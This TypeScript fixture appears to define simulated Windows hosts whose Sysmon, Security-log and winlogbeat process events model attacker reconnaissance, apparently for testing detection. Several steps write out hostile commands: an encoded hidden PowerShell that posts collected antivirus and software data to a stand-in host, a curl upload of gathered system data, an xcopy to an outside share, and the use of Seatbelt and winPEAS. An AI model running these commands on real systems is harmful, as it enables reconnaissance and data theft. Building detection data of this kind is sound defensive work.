/** Windows hosts that gather what clients are, in Sysmon's, the Security log's and winlogbeat's forms. */
import { cmd, encoded, explorer, type Host, powershell, run, system32, wmic } from "./step.ts";

const label = "collector";
const wscript = `${system32}wscript.exe`;
const rundll = `${system32}rundll32.exe`;
const backstage =
  "C:\\Program Files (x86)\\ScreenConnect Client (8d1f)\\ScreenConnect.WindowsBackstageShell.exe";
const hiddenScript =
  "$a=Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct|select displayName,productState;$o=(Get-CimInstance Win32_OperatingSystem).Version;$p=Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*|select DisplayName,DisplayVersion;iwr https://cdn-assets-sync.example/p -Method Post -Body (ConvertTo-Json @($a,$o,$p))";

export const windowsCollectors: readonly Host[] = [
  {
    name: "NVK-LT-0601",
    form: "sysmon",
    user: "NORVIK\\otate",
    label,
    class: "host-burst",
    behaviour:
      "a script out of a downloaded archive asks for system, user, network, programs and protection within a minute",
    steps: [
      ...run("10:58:55", [3], explorer, [
        [
          "wscript.exe",
          '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\otate\\AppData\\Local\\Temp\\Temp1_Chrome.Update.158.zip\\Update.js"',
        ],
      ]),
      ...run("10:59:01", [1], wscript, [
        [
          cmd,
          '"C:\\Windows\\System32\\cmd.exe" /c systeminfo&whoami /all&ipconfig /all&tasklist /svc >> %TEMP%\\radA1.tmp',
        ],
      ]),
      ...run(
        "10:59:02",
        [4, 6, 3, 9, 5],
        cmd,
        [
          ["systeminfo.exe", "systeminfo"],
          ["whoami.exe", "whoami  /all"],
          ["ipconfig.exe", "ipconfig  /all"],
          ["tasklist.exe", "tasklist  /svc"],
          [
            wmic,
            "wmic  /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayName,pathToSignedProductExe",
          ],
          ["net1.exe", "C:\\Windows\\system32\\net1 config workstation"],
        ],
        {
          parentCommand:
            '"C:\\Windows\\System32\\cmd.exe" /c systeminfo&whoami /all&ipconfig /all&tasklist /svc >> %TEMP%\\radA1.tmp',
        },
      ),
      {
        time: "10:59:44",
        image: wscript,
        command: "WScript.exe Update.js",
        parent: explorer,
        talksTo: "mail-archive-sync.example",
      },
    ],
  },
  {
    name: "NVK-LT-0602",
    form: "sysmon",
    user: "NORVIK\\hprice",
    label,
    class: "host-tool",
    behaviour: "Seatbelt under another name, with its groups for system and chrome, into a file for all",
    steps: [
      ...run("14:20:31", [70], cmd, [
        [
          "C:\\Users\\Public\\Libraries\\svcdiag.exe",
          "svcdiag.exe -group=system -outputfile=C:\\Users\\Public\\Libraries\\s.txt",
        ],
        [
          "C:\\Users\\Public\\Libraries\\svcdiag.exe",
          "svcdiag.exe -group=chromium OfficeMRUs AntiVirus InstalledProducts -outputfile=C:\\Users\\Public\\Libraries\\c.txt",
        ],
      ]),
      {
        time: "14:22:02",
        image: "C:\\Users\\Public\\Libraries\\svcdiag.exe",
        command: "svcdiag.exe",
        parent: cmd,
        writes: "C:\\Users\\Public\\Libraries\\c.txt",
      },
    ],
  },
  {
    name: "NVK-LT-0603",
    form: "security",
    user: "NORVIK\\jweber",
    label,
    class: "host-script",
    behaviour: "a hidden, encoded PowerShell gathers protection, build and programs and posts them",
    steps: [
      {
        time: "09:03:09",
        image: `${system32}mshta.exe`,
        command: '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\jweber\\Downloads\\Invoice_77120.hta"',
        parent: explorer,
      },
      ...run("09:03:12", [2], `${system32}mshta.exe`, [
        [powershell, `powershell.exe -NoP -W Hidden -Enc ${encoded(hiddenScript)}`],
      ]),
    ],
  },
  {
    name: "NVK-LT-0604",
    form: "sysmon",
    user: "NORVIK\\sbrandt",
    label,
    class: "host-burst",
    behaviour:
      "a library run by rundll32 looks for extensions of browsers, versions of Chrome and Office and the profiles of the VPN",
    steps: [
      {
        time: "16:40:58",
        image: rundll,
        command: "rundll32.exe C:\\ProgramData\\ntprint.dll,Start",
        parent: cmd,
      },
      ...run(
        "16:41:10",
        [2, 3, 1, 2, 4],
        rundll,
        [
          [
            cmd,
            'cmd.exe /c dir /b "C:\\Users\\sbrandt\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Extensions"',
          ],
          ["reg.exe", "reg query HKCU\\Software\\Google\\Chrome\\BLBeacon /v version"],
          [
            "reg.exe",
            "reg query HKLM\\SOFTWARE\\Microsoft\\Office\\ClickToRun\\Configuration /v VersionToReport",
          ],
          ["reg.exe", 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /s'],
          [cmd, 'cmd.exe /c type "C:\\ProgramData\\Cisco\\Cisco Secure Client\\VPN\\Profile\\*.xml"'],
          ["reg.exe", "reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles /s"],
        ],
        { parentCommand: "rundll32.exe C:\\ProgramData\\ntprint.dll,Start" },
      ),
    ],
  },
  {
    name: "NVK-SRV-APP2",
    form: "security",
    user: "NORVIK\\svc_app",
    label,
    class: "host-remote",
    behaviour: "a server's service account asks a list of PCs for their programs, patches and systems by WMI",
    steps: run("02:13:40", [41, 55], cmd, [
      [
        wmic,
        "wmic /node:@C:\\Windows\\Temp\\h.txt /failfast:on os get csname,caption,buildnumber,lastbootuptime /format:csv",
      ],
      [wmic, "wmic /node:@C:\\Windows\\Temp\\h.txt /failfast:on qfe get csname,hotfixid /format:csv"],
      [wmic, "wmic /node:@C:\\Windows\\Temp\\h.txt /failfast:on product get name,version /format:csv"],
      [
        wmic,
        "wmic /node:NVK-LT-0402 /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname",
      ],
    ]),
  },
  {
    name: "NVK-LT-0611",
    form: "winlogbeat",
    user: "NORVIK\\clarsson",
    label,
    class: "host-remote",
    behaviour:
      "from the hidden shell of a remote tool nobody announced: report of the system, drivers, policies, network, all to a share outside",
    steps: run("18:22:05", [25, 31, 12, 40], backstage, [
      ["msinfo32.exe", "msinfo32 /nfo C:\\Users\\Public\\i.nfo"],
      ["driverquery.exe", "driverquery  /v /fo csv"],
      ["gpresult.exe", "gpresult  /scope computer /v"],
      ["netsh.exe", "netsh  advfirewall show allprofiles"],
      ["xcopy.exe", "xcopy  C:\\Users\\Public\\i.nfo \\\\203.0.113.66\\in\\ /y"],
    ]),
  },
  {
    name: "NVK-LT-0612",
    form: "winlogbeat",
    user: "NORVIK\\mkoch",
    label,
    class: "host-script",
    behaviour: "one long line out of mshta: system, programs running, wireless profiles, sent away by curl",
    steps: [
      {
        time: "11:47:30",
        image: `${system32}mshta.exe`,
        command: "mshta https://files-intake.example/doc/11",
        parent: explorer,
      },
      ...run("11:47:33", [1, 2, 3, 6], `${system32}mshta.exe`, [
        [
          cmd,
          '"C:\\Windows\\System32\\cmd.exe" /c (systeminfo & tasklist /v & netsh wlan show profiles & powershell Get-MpPreference) > %TEMP%\\~d.log & curl -s -F "f=@%TEMP%\\~d.log" https://files-intake.example/up',
        ],
        ["systeminfo.exe", "systeminfo"],
        ["tasklist.exe", "tasklist  /v"],
        ["netsh.exe", "netsh  wlan show profiles"],
        [
          "curl.exe",
          'curl  -s -F "f=@C:\\Users\\mkoch\\AppData\\Local\\Temp\\~d.log" https://files-intake.example/up',
        ],
      ]),
    ],
  },
  {
    name: "NVK-LT-0613",
    form: "winlogbeat",
    user: "NORVIK\\praktikant2",
    label,
    class: "host-tool",
    behaviour: "winPEAS from the folder of downloads, with the parts for system, programs and browsers",
    steps: run("13:05:18", [160], powershell, [
      [
        "C:\\Users\\praktikant2\\Downloads\\winPEASx64.exe",
        '"C:\\Users\\praktikant2\\Downloads\\winPEASx64.exe" quiet systeminfo applicationsinfo browserinfo',
      ],
      [
        "C:\\Users\\praktikant2\\Downloads\\winPEASx64.exe",
        '"C:\\Users\\praktikant2\\Downloads\\winPEASx64.exe" quiet servicesinfo networkinfo log=out.txt',
      ],
    ]),
  },
];
